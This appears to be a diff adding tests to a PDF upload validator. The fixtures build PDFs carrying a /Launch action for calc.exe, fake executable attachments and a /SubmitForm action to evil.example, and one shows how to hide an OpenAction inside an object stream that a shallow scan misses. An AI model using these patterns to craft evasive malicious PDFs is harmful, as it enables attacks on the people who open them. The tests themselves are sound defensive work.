@@ -376,6 +376,70 @@ def _embedded_file(writer):
     writer.add_attachment("virus.exe", b"MZ" + b"\x00" * 64)
 
 
+def _large_embedded_file(writer):
+    # Its data (1 MB) is longer than what the check reads of a stream: only the dictionary
+    # (``/Type /EmbeddedFile``) can tell, and it does.
+    import os
+
+    writer.add_attachment("setup.exe", b"MZ" + os.urandom(1024 * 1024))
+
+
+def _pdf_with_action_in_an_object_stream(action: bytes) -> bytes:
+    """A PDF 1.5 whose ``OpenAction`` (object 5) is packed, with another object, in an object
+    stream (object 4) of 100 kB listed by a cross-reference stream (object 6), as many tools
+    write."""
+    # Object 7 makes the object stream longer than what is read of an ordinary stream's data.
+    packed = [(5, action), (7, b"<< /Notes (%s) >>" % (b"page " * 20_000))]
+    index, body = [], b""
+    for number, source in packed:
+        index.append(f"{number} {len(body)}")
+        body += source + b"\n"
+    header = " ".join(index).encode() + b"\n"
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+
+    def add(number: int, source: bytes) -> None:
+        offsets[number] = len(out)
+        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, source))
+
+    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
+    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
+    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
+    stream = header + body
+    add(
+        4,
+        b"<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n%s\nendstream"
+        % (len(packed), len(header), len(stream), stream),
+    )
+    offsets[6] = len(out)
+    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
+    for number in range(1, 8):
+        if number in (5, 7):
+            rows.append(b"\x02" + (4).to_bytes(4, "big") + [5, 7].index(number).to_bytes(2, "big"))
+        else:
+            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
+    table = b"".join(rows)
+    out.extend(
+        b"6 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s"
+        b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, offsets[6])
+    )
+    return bytes(out)
+
+
+def test_an_action_packed_in_an_object_stream_is_found():
+    import io
+
+    from pypdf import PdfReader
+
+    launch = _pdf_with_action_in_an_object_stream(b"<< /S /Launch /F (calc.exe) >>")
+    reader = PdfReader(io.BytesIO(launch))
+    assert len(reader.pages) == 1 and reader.xref_objStm  # well formed, with an object stream
+    assert refusal(upload("statuts.pdf", launch)).code == "content"
+    link = _pdf_with_action_in_an_object_stream(b"<< /S /URI /URI (https://www.example.org/) >>")
+    checked = check_upload(upload("statuts.pdf", link), extensions=["pdf"], max_size_mb=1)
+    assert checked.page_count == 1
+
+
 def _rich_media(writer):
     from pypdf.generic import ArrayObject, DictionaryObject, NameObject
 
@@ -403,6 +467,7 @@ def _xfa_form(writer):
     [
         pytest.param(_open_action("/Launch", F="calc.exe"), id="launch a program"),
         pytest.param(_embedded_file, id="embedded file"),
+        pytest.param(_large_embedded_file, id="embedded file of 1 MB"),
         pytest.param(_open_action("/SubmitForm", F="https://evil.example/collect"), id="submit"),
         pytest.param(_open_action("/ImportData", F="data.fdf"), id="import data"),
         pytest.param(_rich_media, id="rich media"),
